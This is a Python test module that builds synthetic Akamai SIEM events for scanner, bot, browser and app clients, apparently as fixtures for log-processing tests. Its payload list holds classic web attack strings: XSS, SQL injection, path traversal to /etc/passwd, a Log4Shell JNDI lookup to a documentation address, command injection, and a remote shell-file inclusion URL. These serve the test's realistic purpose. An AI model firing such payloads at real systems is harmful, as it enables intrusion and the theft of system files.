"""Events like those of customers: few rules, and headers of four kinds of client.

Of 100 events, 30 are from scanners (one to six rules, and an anomaly rule with their score), 40
from bots (one rule), 25 from browsers (one rule or none, cookies of 1 to 3 KB) and 5 from apps (one
rule, 2 to 4 KB of sensor data). Event ``i`` depends only on the seed and ``i``. Members are in the
order of Akamai's sample event. Addresses and names are those reserved for documentation.
"""

from __future__ import annotations

import json
import random
from typing import TYPE_CHECKING, NamedTuple

from tests.standins.akamai import vocabulary as words
from tests.standins.akamai.encodings import base64_list, header_block
from tests.standins.akamai.fragments import RULE_MEMBERS, random_text
from tests.standins.akamai.multiset import event_marker

if TYPE_CHECKING:
    from collections.abc import Callable

SHARES = {"scanner": 30, "bot": 40, "browser": 25, "app": 5}
"""Number of each kind in 100 events."""
_SCANNED_RULES = (1, 1, 1, 1, 2, 2, 3, 4, 6)
"""Numbers of rules that a scanner triggers, in proportion, in addition to the anomaly rule."""
_WITHOUT_RULES = 0.4
"""Share of browsers' events without rules, for example those of account protection."""
_CONFIG_ID = "76213"
_ATTACKS = tuple(rule for rule in words.RULES if rule.tag.startswith("WEB_ATTACK"))
_ANOMALIES = tuple(rule for rule in words.RULES if rule.tag.startswith("POLICY"))
_BOTS = tuple(rule for rule in words.RULES if rule.tag.startswith(("BOT", "AUTOMATION")))
_RATES = tuple(rule for rule in words.RULES if rule.tag.startswith(("RATE", "REPUTATION")))
_PAYLOADS = (
    "<script>alert(document.cookie)</script>",
    "1' OR '1'='1' -- ",
    "../../../../etc/passwd",
    r"..\..\windows\win.ini",
    "${jndi:ldap://198.51.100.7/a}",
    '";cat /etc/passwd;"',
    "{{7*7}}",
    "%27%20UNION%20SELECT%20null--",
    "<svg/onload=prüfung()>",
    "http://203.0.113.80/shell.txt?",
)
_BOT_NAMES = ("ExampleBot/2.1", "python-requests/2.32", "Go-http-client/2.0", "okhttp/4.12.0")
_BROWSERS = words.USER_AGENTS[:3]
_CITIES = (*words.PLACES, ("SA", "CO", "DC", "BOGOTÁ", "64509"))


class Client(NamedTuple):
    """The part of an event that depends on the kind of client."""

    rules: list[words.Rule]
    request_headers: list[tuple[str, str]]
    path: str
    query: str
    method: str
    status: str


def event(seed: int, index: int, start: float, *, unrepeated: bool = False) -> bytes:
    """Event `index` as the API writes it, without a line end. `start`: epoch seconds.

    `unrepeated`: no other event has the messages, the data and the selectors of its rules.
    """
    dice = random.Random(seed << 40 | index)
    kind = dice.choices(list(SHARES), list(SHARES.values()))[0]
    client = _KINDS[kind](dice)
    if unrepeated:
        client = client._replace(rules=[_like_no_other(dice, rule) for rule in client.rules])
    whole: dict[str, object] = {"attackData": _attack(dice, client.rules)}
    if kind != "scanner":
        whole["botData"] = {"botScore": str(dice.randrange(101)), "responseSegment": "2"}
    if kind == "app":
        whole["clientData"] = {
            "appBundleId": "com.example.shop",
            "appVersion": f"1.{dice.randrange(30)}",
            "sdkVersion": "4.7.1",
            "telemetryType": "2",
        }
    names = ("continent", "country", "regionCode", "city", "asn")
    whole["format"] = "json"
    whole["geo"] = dict(sorted(zip(names, dice.choice(_CITIES))))
    whole["httpMessage"] = _http(dice, client, event_marker(seed, index), start)
    whole["identity"] = {"ja4": dice.choice(words.FINGERPRINTS)}
    whole["type"] = "akamai_siem"
    if kind == "browser" and not client.rules:
        whole["userRiskData"] = _user_risk(dice)
    whole["version"] = "1.0"
    return json.dumps(whole, separators=(",", ":"), ensure_ascii=False).encode()


def _like_no_other(dice: random.Random, rule: words.Rule) -> words.Rule:
    text = random_text(dice, 12)
    return rule._replace(
        message=f"{rule.message} {text}",
        data=f"{rule.data} {text}",
        selector=f"{rule.selector}:{text}",
    )


def _attack(dice: random.Random, rules: list[words.Rule]) -> dict[str, str]:
    attack = {"clientIP": f"{dice.choice(('192.0.2', '198.51.100'))}.{dice.randrange(256)}"}
    if dice.random() < 0.15:
        attack["clientIP"] = f"2001:db8:{dice.randrange(1 << 16):x}::{dice.randrange(256):x}"
    attack["configId"] = _CONFIG_ID
    attack["policyId"] = f"pol{dice.randint(1, 3)}_{_CONFIG_ID}"
    if rules:
        attack["appliedAction"] = rules[-1].action
    for place, name in enumerate(RULE_MEMBERS):
        attack[name] = base64_list([rule[place] for rule in rules])
    return attack


def _http(dice: random.Random, client: Client, marker: str, start: float) -> dict[str, object]:
    message = {
        "bytes": str(dice.randrange(200, 90_000)),
        "host": client.request_headers[0][1],
        "method": client.method,
        "path": client.path,
        "port": "443",
        "protocol": dice.choice(("h2", "h2", "h2", "HTTP/1.1", "h3")),
        "query": client.query,
        "requestHeaders": header_block(client.request_headers),
        "requestId": marker,
        "responseHeaders": header_block(_response(dice)),
        "start": f"{start:.3f}",
        "status": client.status,
        "tls": "tls1.3",
    }
    if not client.query:
        del message["query"]
    return dict(message)


def _response(dice: random.Random) -> list[tuple[str, str]]:
    headers = [
        ("Server", "AkamaiGHost"),
        ("Mime-Version", "1.0"),
        ("Content-Type", dice.choice(words.CONTENT_TYPES)),
        ("Content-Length", str(dice.randrange(90_000))),
        ("Expires", f"Tue, 08 Apr 2025 10:57:{dice.randrange(60):02} GMT"),
        ("Date", f"Tue, 08 Apr 2025 10:57:{dice.randrange(60):02} GMT"),
        ("Connection", "keep-alive"),
    ]
    if dice.random() < 0.4:
        headers.append(("Set-Cookie", f"ak_bmsc={random_text(dice, 90)}~; Path=/; HttpOnly"))
    return headers


def _scanner(dice: random.Random) -> Client:
    payload = dice.choice(_PAYLOADS)
    if dice.random() < 0.5:
        payload += random_text(dice, 8)
    rules = [
        rule._replace(data=payload if dice.random() < 0.5 else rule.data)
        for rule in dice.sample(_ATTACKS, dice.choice(_SCANNED_RULES))
    ]
    anomaly = dice.choice(_ANOMALIES)
    fired = "-".join(rule.rule_id for rule in rules)
    score = f"Vector Score: {5 * len(rules)}, Group Threshold: 4, Triggered Rules: {fired}"
    headers = [
        ("Host", dice.choice(words.HOSTS)),
        ("User-Agent", "scanbot/1.2 (+https://scan.example.com/about)"),
        ("Accept", "*/*"),
        ("X-Forwarded-For", f"203.0.113.{dice.randrange(256)}"),
        ("Referer", f"https://www.example.com/?q={payload}"),
        ("Connection", "close"),
    ]
    return Client(
        rules=[*rules, anomaly._replace(data=score)],
        request_headers=headers,
        path=dice.choice(words.PATHS),
        query=dice.choice(words.QUERIES) or f"id={dice.randrange(10**6)}",
        method=dice.choice(("GET", "GET", "POST")),
        status="403",
    )


def _bot(dice: random.Random) -> Client:
    headers = [
        ("Host", dice.choice(words.HOSTS)),
        ("User-Agent", dice.choice(_BOT_NAMES)),
        ("Accept", dice.choice(words.ACCEPTS)),
        ("Accept-Encoding", "gzip, deflate"),
        ("Connection", "keep-alive"),
    ]
    return Client(
        rules=[dice.choice(_BOTS)],
        request_headers=headers,
        path=f"/products/{dice.randrange(10**5)}",
        query=f"page={dice.randrange(40)}" if dice.random() < 0.5 else "",
        method="GET",
        status=dice.choice(("200", "200", "403", "429")),
    )


def _browser(dice: random.Random) -> Client:
    headers = [
        ("Host", dice.choice(words.HOSTS)),
        ("sec-ch-ua", '"Chromium";v="126", "Not/A)Brand";v="8"'),
        ("sec-ch-ua-mobile", "?0"),
        ("sec-ch-ua-platform", '"Windows"'),
        ("User-Agent", dice.choice(_BROWSERS)),
        ("Accept", words.ACCEPTS[1]),
        ("Sec-Fetch-Site", "same-origin"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Referer", f"https://www.example.com/search?q={random_text(dice, 12)}&page=2"),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        ("Accept-Language", dice.choice(words.LANGUAGES)),
        ("Cookie", _cookies(dice, dice.randrange(1_000, 3_000))),
    ]
    return Client(
        rules=[] if dice.random() < _WITHOUT_RULES else [dice.choice(_RATES)],
        request_headers=headers,
        path=dice.choice(("/", "/login", "/cart/checkout", "/search", "/account/orders")),
        query=f"sid={random_text(dice, 10)}" if dice.random() < 0.4 else "",
        method=dice.choice(("GET", "GET", "POST")),
        status=dice.choice(("200", "200", "302", "403")),
    )


def _app(dice: random.Random) -> Client:
    headers = [
        ("Host", "api.example.com"),
        ("User-Agent", "ExampleApp/4.7.1 (Android 14; en_GB)"),
        ("Accept", "application/json"),
        ("Content-Type", "application/json; charset=utf-8"),
        ("X-acf-sensor-data", _sensor_data(dice, dice.randrange(2_000, 4_000))),
        ("Accept-Encoding", "gzip"),
    ]
    return Client(
        rules=[dice.choice(_BOTS)],
        request_headers=headers,
        path=f"/api/v2/{dice.choice(('orders', 'login', 'basket'))}",
        query="",
        method="POST",
        status=dice.choice(("200", "201", "403")),
    )


def _cookies(dice: random.Random, length: int) -> str:
    """Cookies of sessions, bot management and consent, with a total of about `length`
    characters.
    """
    cookies = [
        f"_abck={random_text(dice, 32)}~0~{random_text(dice, 260)}~-1~-1~-1",
        f"bm_sz={random_text(dice, 120)}~{dice.randrange(10**7)}~{dice.randrange(10**7)}",
        f"_ga=GA1.2.{dice.randrange(10**9)}.{dice.randrange(10**9)}",
        "consent=isGpcEnabled%3d0%26groups%3dC0001%253A1%252CC0002%253A0",
    ]
    while (size := sum(map(len, cookies)) + 2 * len(cookies)) < length:
        value = random_text(dice, min(180, length - size))
        cookies.append(f"{dice.choice(('sess', 'ab', 'seg', 'rec'))}{len(cookies)}={value}")
    return "; ".join(cookies)


def _sensor_data(dice: random.Random, length: int) -> str:
    """Like an app's sensor data: pieces of base64 between separators."""
    pieces = ["6,a", random_text(dice, 172).replace("+", "/") + "=="]
    pieces.append(random_text(dice, length - 180).replace("+", "/") + "=")
    return "$".join([",".join(pieces), f"{dice.randrange(90)},{dice.randrange(90)},0", ""])


def _user_risk(dice: random.Random) -> dict[str, str]:
    user = dice.choice(words.USERS)
    return {
        "allow": "0",
        "emailDomain": "example.com",
        "general": dice.choice(words.GENERALS),
        "originUserId": f"{user}-{dice.randrange(10**5)}",
        "risk": dice.choice(words.RISKS),
        "score": str(dice.randrange(101)),
        "status": "0",
        "trust": dice.choice(words.TRUSTS),
        "username": user,
        "uuid": f"{dice.getrandbits(128):032x}",
    }


_KINDS: dict[str, Callable[[random.Random], Client]] = {
    "scanner": _scanner,
    "bot": _bot,
    "browser": _browser,
    "app": _app,
}
